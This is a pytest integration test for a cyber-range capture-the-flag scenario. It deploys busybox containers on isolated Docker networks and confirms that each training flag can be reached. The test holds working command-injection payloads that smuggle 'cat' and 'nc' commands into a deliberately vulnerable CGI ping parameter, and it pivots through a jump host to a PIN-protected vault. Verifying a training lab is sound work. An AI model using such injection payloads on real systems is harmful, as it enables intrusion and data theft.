"""The library's `ctf-starter` really runs on busybox: deployed by hand on the real Docker engine (one
network per segment, files injected, per-team values filled in), its five flags are reachable the way the
README tells trainers, and the provisioning playbook's raw commands work in a Python-less container.

This is not the Docker connector (another part of Federange); it checks the scenario itself.
"""

from __future__ import annotations

import io
import tarfile
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from scenarios import library
from scenarios.materialise import fill, materialise
from scenarios.model import Scenario
from tests.integration.scenarios.busybox_image import ensure_image
from tests.support import probe
from tests.support.requirements import skip_or_fail

pytestmark = pytest.mark.docker

docker = pytest.importorskip("docker")


@pytest.fixture(scope="module")
def engine() -> Iterator[Any]:
    try:
        client = docker.from_env()
        client.ping()
    except Exception as exc:
        skip_or_fail("docker", f"no Docker engine: {exc}")
    yield client
    client.close()


def _archive(files: dict[str, tuple[str, int]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for path, (content, mode) in files.items():
            data = content.encode()
            info = tarfile.TarInfo(path.lstrip("/"))
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


class Deployed:
    def __init__(self, engine: Any, scenario: Scenario, values: dict[str, str], image: str) -> None:
        self.prefix = f"scentest-{uuid.uuid4().hex[:8]}"
        self.engine = engine
        self.networks = {
            s.name: engine.networks.create(
                f"{self.prefix}-{s.name}", internal=True, labels={"t": self.prefix}
            )
            for s in scenario.spec.segments
        }
        self.containers: dict[str, Any] = {}
        for host in scenario.spec.hosts:
            first, *others = host.segments
            container = engine.containers.create(
                image,
                command=[fill(a, values) for a in [*(host.command or []), *(host.args or [])]],
                name=f"{self.prefix}-{host.name}",
                init=True,
                labels={"t": self.prefix},
                environment={k: fill(v, values) for k, v in host.env.items()},
                network=self.networks[first].name,
                networking_config={
                    self.networks[first].name: engine.api.create_endpoint_config(aliases=[host.name])
                },
            )
            for segment in others:
                self.networks[segment].connect(container, aliases=[host.name])
            files = {f.path: (fill(f.content, values), f.mode) for f in host.files}
            assert container.put_archive("/", _archive(files))
            container.start()
            self.containers[host.name] = container
        # the team's own machine on the public segment
        self.team = engine.containers.run(
            image, ["sleep", "3600"], name=f"{self.prefix}-team", init=True, detach=True,
            labels={"t": self.prefix}, network=self.networks["public"].name,
        )  # fmt: skip

    def probe(self, container: Any, target: probe.Target) -> probe.Outcome:
        """The isolation probe's verdict from `container` (ProbeBroken when it gives none)."""
        result = container.exec_run(probe.command(target))
        return probe.verdict(result.output.decode(errors="replace"), result.exit_code, target=target)

    def team_sh(self, script: str) -> str:
        result = self.team.exec_run(["sh", "-c", script])
        return str(result.output.decode(errors="replace"))

    def wait_ready(self, scenario: Scenario) -> None:
        pending = {
            h.name: h.readiness.tcp_port for h in scenario.spec.hosts if h.readiness and h.readiness.tcp_port
        }
        for _ in range(100):
            for name, port in list(pending.items()):
                probe_from = (
                    self.team if "public" in scenario.host(name).segments else self.containers["jump"]
                )
                if probe_from.exec_run(["sh", "-c", f"nc -w 1 {name} {port} </dev/null"]).exit_code == 0:
                    del pending[name]
            if not pending:
                return
            time.sleep(0.1)
        raise AssertionError(f"hosts never became ready: {sorted(pending)}")

    def remove(self) -> None:
        for container in [*self.containers.values(), self.team]:
            container.remove(force=True)
        for network in self.networks.values():
            network.remove()


@pytest.fixture
def deployed(engine: Any) -> Iterator[tuple[Deployed, Scenario, dict[str, str]]]:
    image = ensure_image()
    scenario = library.load_library("ctf-starter")
    assert {h.image for h in scenario.spec.hosts} == {"busybox:1.36"}
    values = materialise(scenario, seed=b"test-seed", instance_id="ctf-team-1")
    instance = Deployed(engine, scenario, values, image)
    try:
        instance.wait_ready(scenario)
        yield instance, scenario, values
    finally:
        instance.remove()


def test_every_flag_is_reachable_the_documented_way(
    deployed: tuple[Deployed, Scenario, dict[str, str]],
) -> None:
    instance, _, values = deployed
    assert values["flag_source"] in instance.team_sh("wget -qO- http://web:8080/")
    assert "/backup/" in instance.team_sh("wget -qO- http://web:8080/robots.txt")
    assert values["flag_robots"] in instance.team_sh("wget -qO- http://web:8080/backup/notes.txt")

    ping = instance.team_sh("wget -qO- 'http://jump:8081/cgi-bin/ping?host=web'")
    assert "PING web" in ping
    injected = instance.team_sh(
        "wget -qO- 'http://jump:8081/cgi-bin/ping?host=127.0.0.1%3Bcat%20/home/ops/flag.txt'"
    )
    assert values["flag_cgi"] in injected

    # the vault is not reachable from the team's segment, only through the jump host: the engine drops
    # what leaves an internal network for another one (TIMEOUT), while the jump host REACHES the same
    # port; its address is used because names of other segments do not resolve
    vault = instance.containers["vault"]
    vault.reload()
    address = vault.attrs["NetworkSettings"]["Networks"][instance.networks["internal"].name]["IPAddress"]
    assert address
    target = probe.Target(address, 9000)
    assert instance.probe(instance.team, target) is probe.Outcome.TIMEOUT
    assert instance.probe(instance.containers["jump"], target) is probe.Outcome.REACHED
    via_jump = instance.containers["jump"].exec_run(["sh", "-c", f"echo 1 | nc -w 1 {address} 9000"])
    assert "ACCESS DENIED" in via_jump.output.decode()
    wrong = instance.team_sh(
        "wget -qO- 'http://jump:8081/cgi-bin/ping?host=127.0.0.1%3Becho%2000%7Cnc%20vault%209000'"
    )
    assert "ACCESS DENIED" in wrong
    pin = values["vault_pin"]
    granted = instance.team_sh(
        f"wget -qO- 'http://jump:8081/cgi-bin/ping?host=127.0.0.1%3Becho%20{pin}%7Cnc%20vault%209000'"
    )
    assert "ACCESS GRANTED" in granted
    assert values["flag_vault"] in granted
    assert values["flag_vault"] not in wrong


def test_the_provisioning_playbook_works_without_python(
    deployed: tuple[Deployed, Scenario, dict[str, str]],
) -> None:
    """Every task is ansible.builtin.raw; run each command, templated with the step's vars the way Ansible
    templates them (Jinja2), with /bin/sh in the jump container, then read the planted flag back."""
    jinja2 = pytest.importorskip("jinja2")
    instance, scenario, values = deployed
    bundle = library.bundle("ctf-starter")
    (step,) = scenario.spec.provisioning
    step_vars = {k: fill(v, values) for k, v in step.vars.items()}
    plays = yaml.safe_load(bundle.playbook_path(step).read_text())
    for play in plays:
        assert play["gather_facts"] is False
        for task in play["tasks"]:
            assert set(task) <= {"name", "ansible.builtin.raw", "changed_when"}, task
            command = jinja2.Template(task["ansible.builtin.raw"]).render(**step_vars)
            for host in play["hosts"].split(","):
                result = instance.containers[host.strip()].exec_run(["/bin/sh", "-c", command])
                assert result.exit_code == 0, (task["name"], result.output)
    injected = instance.team_sh(
        "wget -qO- 'http://jump:8081/cgi-bin/ping?host=127.0.0.1%3Bcat%20/root/proof.txt'"
    )
    assert values["flag_root"] in injected
    mode = instance.containers["jump"].exec_run(["stat", "-c", "%a", "/root/proof.txt"]).output.decode()
    assert mode.strip() == "600"
